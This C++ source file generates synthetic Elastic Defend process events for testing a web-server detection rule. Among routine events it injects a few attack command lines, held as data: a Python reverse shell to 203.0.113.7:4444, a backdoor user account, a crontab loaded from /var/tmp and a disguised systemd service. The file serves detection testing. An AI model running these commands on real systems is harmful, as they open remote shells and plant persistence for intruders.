// Deterministic generator of realistic Elastic Defend Linux process events for the web-server scenario.
#include "eventgen/event_gen.h"

#include <cmath>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "runtime/common/dates.h"

namespace rulec::gen {

size_t Rng::zipf(size_t n) {
  if (n <= 1) return 0;
  // Inverse-CDF of a continuous 1/x law over [1, n+1): cheap and heavy-tailed.
  double u = static_cast<double>(next() >> 11) * 0x1.0p-53;
  size_t k = static_cast<size_t>(std::exp(u * std::log(static_cast<double>(n) + 1.0))) - 1;
  return k < n ? k : n - 1;
}

namespace {

// Minimal JSON writer with a fixed key order (so the same seed gives byte-identical output).
class Json {
 public:
  Json& open(std::string_view key = {}) { return sep(key).raw("{"), first_ = true, *this; }
  Json& close() { out_ += '}'; first_ = false; return *this; }
  Json& str(std::string_view key, std::string_view v) { sep(key); quote(v); return *this; }
  Json& num(std::string_view key, int64_t v) { sep(key); out_ += std::to_string(v); return *this; }
  Json& boolean(std::string_view key, bool v) { sep(key); out_ += v ? "true" : "false"; return *this; }
  Json& strs(std::string_view key, const std::vector<std::string>& vs) {
    sep(key);
    out_ += '[';
    for (size_t i = 0; i < vs.size(); ++i) {
      if (i) out_ += ',';
      quote(vs[i]);
    }
    out_ += ']';
    return *this;
  }
  const std::string& text() const { return out_; }
  void clear() { out_.clear(); first_ = true; }

 private:
  Json& raw(std::string_view s) { out_ += s; return *this; }
  Json& sep(std::string_view key) {
    if (!first_) out_ += ',';
    first_ = false;
    if (!key.empty()) {
      quote(key);
      out_ += ':';
    }
    return *this;
  }
  void quote(std::string_view s) {
    out_ += '"';
    for (char c : s) {
      switch (c) {
        case '"': out_ += "\\\""; break;
        case '\\': out_ += "\\\\"; break;
        case '\n': out_ += "\\n"; break;
        case '\t': out_ += "\\t"; break;
        default:
          if (static_cast<unsigned char>(c) < 0x20) out_ += fmt::format("\\u{:04x}", c);
          else out_ += c;
      }
    }
    out_ += '"';
  }
  std::string out_;
  bool first_ = true;
};

std::string uuid(Rng& r) {
  uint64_t a = r.next(), b = r.next();
  return fmt::format("{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}", a >> 32, (a >> 16) & 0xffff, a & 0xfff,
                     0x8000 | ((b >> 48) & 0x3fff), b & 0xffffffffffffull);
}

struct Proc {
  std::string name, executable;
  std::vector<std::string> args;
  std::string working_directory = "/";
  std::string user = "root";
  int64_t uid = 0;
  std::string command_line() const {
    std::string s;
    for (size_t i = 0; i < args.size(); ++i) s += (i ? " " : "") + args[i];
    return s;
  }
};

Proc proc(std::string name, std::string exe, std::vector<std::string> args, std::string cwd = "/",
          std::string user = "root", int64_t uid = 0) {
  return Proc{std::move(name), std::move(exe), std::move(args), std::move(cwd), std::move(user), uid};
}

// Parent processes: web servers (what the rule watches) and ordinary ones (what it ignores).
const std::vector<Proc>& web_parents() {
  static const std::vector<Proc> v = {
      proc("apache2", "/usr/sbin/apache2", {"/usr/sbin/apache2", "-k", "start"}, "/", "www-data", 33),
      proc("nginx", "/usr/sbin/nginx", {"nginx:", "worker", "process"}, "/", "www-data", 33),
      proc("php-fpm8.2", "/usr/sbin/php-fpm8.2", {"php-fpm:", "pool", "www"}, "/var/www/html", "www-data", 33),
      proc("gunicorn", "/opt/app/venv/bin/gunicorn", {"/opt/app/venv/bin/python3", "/opt/app/venv/bin/gunicorn", "app.wsgi:application", "--workers", "4"}, "/opt/app", "app", 1001),
      proc("python3.11", "/usr/bin/python3.11", {"/usr/bin/python3.11", "/srv/api/server.py", "--port", "8080"}, "/srv/api", "api", 1002),
      proc("ruby", "/usr/bin/ruby", {"puma", "5.6.7", "(tcp://0.0.0.0:3000)", "[rails-app]"}, "/srv/rails", "rails", 1003),
      proc("java", "/u01/app/java/bin/java", {"/u01/app/java/bin/java", "-Dcatalina.base=/u01/tomcat", "org.apache.catalina.startup.Bootstrap", "start"}, "/u01/tomcat", "tomcat", 1004),
  };
  return v;
}

const std::vector<Proc>& other_parents() {
  static const std::vector<Proc> v = {
      proc("bash", "/usr/bin/bash", {"-bash"}, "/home/ops", "ops", 1000),
      proc("systemd", "/usr/lib/systemd/systemd", {"/sbin/init"}, "/"),
      proc("cron", "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}, "/"),
      proc("sshd", "/usr/sbin/sshd", {"sshd:", "ops", "[priv]"}, "/"),
      proc("containerd-shim", "/usr/bin/containerd-shim-runc-v2", {"/usr/bin/containerd-shim-runc-v2", "-namespace", "moby"}, "/"),
  };
  return v;
}

// Routine children of web servers: what the history teaches the rule to expect.
const std::vector<Proc>& web_children() {
  static const std::vector<Proc> v = {
      proc("sendmail", "/usr/sbin/sendmail", {"/usr/sbin/sendmail", "-t", "-i"}),
      proc("convert", "/usr/bin/convert", {"/usr/bin/convert", "/srv/media/upload.png", "-resize", "800x600", "/srv/media/thumb.png"}),
      proc("git", "/usr/bin/git", {"/usr/bin/git", "rev-parse", "HEAD"}),
      proc("file", "/usr/bin/file", {"/usr/bin/file", "--mime-type", "-b", "/srv/media/upload.png"}),
      proc("pdftotext", "/usr/bin/pdftotext", {"/usr/bin/pdftotext", "-layout", "/srv/media/invoice.pdf", "-"}),
      proc("gzip", "/usr/bin/gzip", {"/usr/bin/gzip", "-9", "/var/log/app/app.log.1"}),
      proc("uptime", "/usr/bin/uptime", {"/usr/bin/uptime"}),
      proc("sh", "/usr/bin/sh", {"/bin/sh", "-c", "/usr/sbin/sendmail -t -i"}),  // excluded by name
      proc("php", "/usr/bin/php8.2", {"php", "/var/www/html/artisan", "schedule:run"}),
  };
  return v;
}

// Children of ordinary parents (never web servers).
const std::vector<Proc>& other_children() {
  static const std::vector<Proc> v = {
      proc("ls", "/usr/bin/ls", {"ls", "-la"}, "/home/ops", "ops", 1000),
      proc("grep", "/usr/bin/grep", {"grep", "-r", "error", "/var/log/syslog"}, "/home/ops", "ops", 1000),
      proc("systemctl", "/usr/bin/systemctl", {"systemctl", "status", "nginx"}, "/home/ops", "ops", 1000),
      proc("logrotate", "/usr/sbin/logrotate", {"/usr/sbin/logrotate", "/etc/logrotate.conf"}),
      proc("apt-get", "/usr/bin/apt-get", {"apt-get", "update"}),
      proc("python3", "/usr/bin/python3", {"python3", "/usr/local/bin/backup.py"}),
      proc("ps", "/usr/bin/ps", {"ps", "aux"}, "/home/ops", "ops", 1000),
  };
  return v;
}

struct Attack {
  size_t parent;  // index into web_parents()
  Proc child;
};

const std::vector<Attack>& attacks() {
  static const std::vector<Attack> v = {
      {1, proc("crontab", "/usr/bin/crontab", {"/usr/bin/crontab", "/var/tmp/.update-cron"}, "/", "www-data", 33)},
      {0, proc("useradd", "/usr/sbin/useradd", {"/usr/sbin/useradd", "-m", "-s", "/bin/bash", "svc-backup"}, "/", "www-data", 33)},
      {2, proc("python3", "/usr/bin/python3", {"python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"}, "/var/www/html", "www-data", 33)},
      {6, proc("systemctl", "/usr/bin/systemctl", {"/usr/bin/systemctl", "enable", "--now", "kworker-update.service"}, "/u01/tomcat", "tomcat", 1004)},
      {3, proc("ssh-keygen", "/usr/bin/ssh-keygen", {"/usr/bin/ssh-keygen", "-t", "ed25519", "-N", "", "-f", "/opt/app/.ssh/id_ed25519"}, "/opt/app", "app", 1001)},
  };
  return v;
}

struct Host {
  std::string name, id, agent_id, ip;
};

void write_event(Json& j, Rng& r, int64_t t_ms, const Host& h, const Proc& parent, const Proc& child) {
  std::string pe = uuid(r), ce = uuid(r);
  int64_t ppid = 1000 + static_cast<int64_t>(r.below(60000)), pid = ppid + 1 + static_cast<int64_t>(r.below(500));
  j.clear();
  j.open();
  j.str("@timestamp", iso8601_ms(t_ms));
  j.open("agent").str("id", h.agent_id).str("type", "endpoint").str("version", "8.15.0").close();
  j.open("data_stream").str("dataset", "endpoint.events.process").str("namespace", "default").str("type", "logs").close();
  j.open("ecs").str("version", "8.11.0").close();
  j.open("event")
      .str("action", "exec")
      .strs("category", {"process"})
      .num("created", t_ms)
      .str("dataset", "endpoint.events.process")
      .str("id", uuid(r))
      .str("ingested", iso8601_ms(t_ms + 1500 + static_cast<int64_t>(r.below(3000))))
      .str("kind", "event")
      .str("module", "endpoint")
      .strs("type", {"start"})
      .close();
  j.open("host")
      .strs("architecture", {"x86_64"})
      .str("hostname", h.name)
      .str("id", h.id)
      .strs("ip", {h.ip})
      .str("name", h.name)
      .open("os").str("family", "debian").str("full", "Debian 12").str("kernel", "6.1.0-18-amd64")
      .str("name", "Linux").str("platform", "debian").str("type", "linux").str("version", "12").close()
      .close();
  j.open("process")
      .strs("args", child.args)
      .num("args_count", static_cast<int64_t>(child.args.size()))
      .str("command_line", child.command_line())
      .str("entity_id", ce)
      .str("executable", child.executable)
      .str("name", child.name)
      .open("parent")
      .strs("args", parent.args)
      .num("args_count", static_cast<int64_t>(parent.args.size()))
      .str("command_line", parent.command_line())
      .str("entity_id", pe)
      .str("executable", parent.executable)
      .str("name", parent.name)
      .num("pid", ppid)
      .str("working_directory", parent.working_directory)
      .close()
      .num("pid", pid)
      .str("working_directory", child.working_directory)
      .open("user").str("id", std::to_string(child.uid)).str("name", child.user).close()
      .close();
  j.open("user").str("id", std::to_string(child.uid)).str("name", child.user).close();
  j.close();
}

}  // namespace

const std::vector<std::string>& web_attack_command_lines() {
  static const std::vector<std::string> v = [] {
    std::vector<std::string> out;
    for (const auto& a : attacks()) out.push_back(a.child.command_line());
    return out;
  }();
  return v;
}

void generate_web(const WebScenario& s, const std::function<void(std::string_view)>& emit) {
  Rng r(s.seed);
  std::vector<Host> hosts;
  for (int i = 0; i < s.hosts; ++i) {
    Rng hr(0xC0FFEE + static_cast<uint64_t>(i));  // host identity does not depend on the scenario seed
    std::string host_id = uuid(hr);
    hosts.push_back({fmt::format("web-{:02}", i + 1), host_id, uuid(hr), fmt::format("10.20.{}.{}", i / 200, 10 + i % 200)});
  }
  // Attacks are spread over the span at fixed fractions; routine events are evenly spaced with jitter.
  std::vector<int64_t> attack_at;
  if (s.attacks)
    for (size_t i = 0; i < attacks().size(); ++i)
      attack_at.push_back(s.start_ms + s.span_ms * static_cast<int64_t>(2 * i + 1) / static_cast<int64_t>(2 * attacks().size()));
  size_t next_attack = 0;
  Json j;
  auto emit_attack = [&] {
    const Attack& a = attacks()[next_attack];
    write_event(j, r, attack_at[next_attack], hosts[next_attack % hosts.size()], web_parents()[a.parent], a.child);
    emit(j.text());
    ++next_attack;
  };
  const int64_t step = s.events ? s.span_ms / static_cast<int64_t>(s.events) : s.span_ms;
  for (uint64_t n = 0; n < s.events; ++n) {
    int64_t t = s.start_ms + static_cast<int64_t>(n) * step + static_cast<int64_t>(r.below(static_cast<uint64_t>(step > 1 ? step : 1)));
    while (next_attack < attack_at.size() && attack_at[next_attack] <= t) emit_attack();
    const Host& h = hosts[r.zipf(hosts.size())];
    if (r.chance(0.35)) {
      // A web server runs one of its routine helpers.
      const Proc& parent = web_parents()[r.zipf(web_parents().size())];
      const Proc& child = web_children()[r.zipf(web_children().size())];
      write_event(j, r, t, h, parent, child);
    } else {
      // One draw per statement: the order of draws inside one call's arguments is unspecified
      // (GCC and Clang differ), and the same seed must give the same bytes with either.
      const Proc& child = other_children()[r.zipf(other_children().size())];
      const Proc& parent = other_parents()[r.zipf(other_parents().size())];
      write_event(j, r, t, h, parent, child);
    }
    emit(j.text());
  }
  while (next_attack < attack_at.size()) emit_attack();
}

}  // namespace rulec::gen
